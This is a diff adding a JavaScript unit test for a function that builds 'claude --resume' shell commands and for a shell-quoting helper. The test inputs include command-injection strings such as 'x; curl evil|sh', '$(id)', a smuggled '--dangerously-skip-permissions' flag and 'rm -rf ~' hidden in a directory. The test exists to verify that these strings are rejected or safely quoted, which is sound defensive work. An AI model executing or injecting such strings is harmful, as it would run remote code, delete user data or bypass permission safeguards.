@@ -27,6 +27,14 @@ describe('resume command', () => {
     expect(resumeCommand({ id: 'abc', cwd: null })).toBe('claude --resume abc');
   });
 
+  it('names no session whose id is more than a word, and no machine with it', () => {
+    for (const id of ['x; curl evil|sh', '$(id)', '--dangerously-skip-permissions', 'a\nb']) {
+      expect(resumeCommand({ id, cwd: '/src/app' })).toBe('cd /src/app && claude --resume');
+    }
+    expect(resumeCommand({ id: 'abc~host-1', cwd: null })).toBe('claude --resume abc');
+    expect(resumeCommand({ id: 'abc', cwd: '/src\nrm -rf ~' })).toBe('claude --resume abc');
+  });
+
   it('keeps a hostile directory one word', () => {
     expect(quoteForShell("/a b/$(rm -rf ~)/it's")).toBe("'/a b/$(rm -rf ~)/it'\\''s'");
     expect(quoteForShell('-rf')).toBe("'-rf'");
